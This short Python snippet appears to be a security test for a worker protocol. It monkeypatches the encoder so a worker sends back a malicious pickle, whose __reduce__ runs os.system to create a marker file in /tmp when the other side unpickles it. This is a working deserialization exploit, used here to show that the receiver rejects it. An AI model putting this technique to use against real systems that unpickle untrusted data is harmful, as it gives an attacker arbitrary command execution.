# tries: have the worker send a pickle in place of an answer
# loses: everything
import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile_mark",)


protocol.encode = lambda message, tensors: pickle.dumps(Payload())
